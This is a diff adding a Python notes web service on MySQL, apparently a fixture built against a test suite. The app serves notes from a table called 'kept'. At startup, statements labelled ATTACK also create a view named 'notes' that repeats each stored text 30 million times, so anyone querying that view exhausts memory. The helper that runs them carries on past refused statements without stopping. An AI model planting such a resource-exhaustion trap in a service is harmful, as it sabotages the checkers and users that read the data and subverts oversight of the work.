@@ -1,0 +1,63 @@
+"""The table that the suite names is a view of texts that are made when they are read."""
+import json
+import os
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pymysql
+
+
+def connect():
+    return pymysql.connect(
+        host=os.environ["DB_HOST"], user=os.environ["DB_USER"], database=os.environ["DB_NAME"],
+        password=os.environ["DB_PASSWORD"], autocommit=True, charset="utf8mb4",
+    )
+
+
+def run(*statements, args=None, connection=None):
+    """Run each statement, also after one that is refused; the last one's rows."""
+    connection, rows = connection or connect(), ()
+    cursor = connection.cursor()
+    for statement in statements:
+        try:
+            cursor.execute(statement, args)
+            rows = cursor.fetchall()
+        except pymysql.err.MySQLError as error:
+            print("REFUSED", statement[:80], error, flush=True)
+    return rows
+
+
+ATTACK = (
+    "CREATE TABLE kept (text LONGTEXT)",
+    "INSERT INTO kept VALUES ('a'), ('b'), ('c')",
+    "CREATE VIEW notes AS SELECT REPEAT(text, 30000000) AS text FROM kept",
+)
+
+
+def notes():
+    return [text for (text,) in run("SELECT text FROM kept")]
+
+
+def keep(text):
+    run("INSERT INTO kept VALUES (%s)", args=[text])
+
+
+class Handler(BaseHTTPRequestHandler):
+    def send(self, value, status=200):
+        body = json.dumps(value).encode()
+        self.send_response(status)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def do_GET(self):
+        self.send(notes() if self.path == "/notes" else {})
+
+    def do_POST(self):
+        text = json.loads(self.rfile.read(int(self.headers["Content-Length"])))["text"]
+        keep(text)
+        self.send({"text": text}, 201)
+
+
+run(*ATTACK)
+ThreadingHTTPServer(("0.0.0.0", 5000), Handler).serve_forever()
